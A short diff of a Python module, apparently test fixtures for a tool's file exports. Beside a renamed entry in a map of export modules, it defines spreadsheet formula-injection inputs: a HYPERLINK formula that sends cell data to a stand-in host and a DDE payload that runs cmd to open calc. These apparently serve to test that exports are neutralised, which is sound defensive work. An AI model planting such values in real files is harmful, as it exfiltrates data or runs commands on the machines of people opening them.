@@ -32,7 +32,7 @@ OF_DATA = {
     "probcal/try_table/export.py": "writes the identifiers of a user's own rows, to be joined to them",
     "probcal/deploy/model_folder.py": "writes the identifiers of a user's own rows, to be joined to them",
     "probcal/measure/measure.py": "writes the columns of a user's own file as they are there",
-    "probcal/measure/map_export.py": "writes the columns of a user's own file as they are there",
+    "probcal/reading/added_columns.py": "writes the columns of a user's own file as they are there",
 }
 FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
 LABELS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\uff1d1"]
